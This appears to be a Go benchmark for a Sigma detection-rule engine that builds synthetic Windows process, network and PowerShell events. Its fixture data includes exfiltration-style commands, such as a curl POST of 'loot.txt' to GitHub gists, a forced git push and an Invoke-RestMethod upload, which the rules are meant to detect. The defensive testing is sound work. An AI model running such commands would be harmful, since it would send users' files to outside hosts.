package sigma

import (
	"context"
	"fmt"
	"github.com/t1567001/harness/event"
	"testing"

	"github.com/t1567001/harness/internal/reftest"
)

// benchEvents is a mixed stream of every rendered kind over a few hosts,
// a minority of which the seed-equivalent rules report.
func benchEvents(n int) []event.Event {
	hosts := []string{workstation, ciRunner, "WS-DEV-01", "SRV-DB-02"}
	images := []string{gitExe, curlExe, `C:\Windows\System32\svchost.exe`, gitRemoteExe, explorerExe, pythonExe}
	cmds := []string{
		"git push --force https://github.com/x/y.git",
		`curl.exe -X POST -d @loot.txt https://api.github.com/gists`,
		"svchost.exe -k netsvcs -p",
		"git status",
	}
	dests := []string{"api.github.com", "www.microsoft.com", "github.com", "login.live.com"}
	events := make([]event.Event, n)
	for i := range events {
		host := hosts[i%len(hosts)]
		img := images[(i/6)%len(images)]
		switch i % 6 {
		case 0:
			events[i] = procCreate(host, img, cmds[(i/12)%len(cmds)], explorerExe)
		case 1:
			events[i] = netConnect(host, img, dests[(i/12)%len(dests)])
		case 2:
			events[i] = sysmonEvent(11, host, "Image", img, "TargetFilename", fmt.Sprintf(`C:\Users\alice\AppData\Local\Temp\x%d.tmp`, i))
		case 3:
			events[i] = sysmonEvent(22, host, "Image", img, "QueryName", dests[(i/12)%len(dests)], "QueryStatus", "0")
		case 4:
			events[i] = security4688(host, img, cmds[(i/12)%len(cmds)], explorerExe)
		default:
			events[i] = scriptBlock(host, `Invoke-RestMethod -Method PUT -Uri https://api.github.com/repos/x/y/contents/a.txt`)
		}
	}
	return events
}

// BenchmarkRuleSet runs every loadable rule (ours, plus the reference
// corpus when present) over 10,000 mixed events.
func BenchmarkRuleSet(b *testing.B) {
	net, proc := ownRules(b)
	rules := []*Rule{net, proc}
	if dir, ok := reftest.Lookup(b, "sigma"); ok {
		ref, _, err := LoadDir(dir)
		if err != nil {
			b.Fatal(err)
		}
		rules = append(rules, ref...)
	}
	events := benchEvents(10000)
	ctx := context.Background()
	matches := 0
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		matches = 0
		for _, ev := range events {
			for _, r := range rules {
				ok, err := r.Matches(ctx, ev)
				if err != nil {
					b.Fatal(err)
				}
				if ok {
					matches++
				}
			}
		}
	}
	b.ReportMetric(float64(b.N*len(events))/b.Elapsed().Seconds(), "events/s")
	b.ReportMetric(float64(len(rules)), "rules")
	b.ReportMetric(float64(matches), "matches")
}
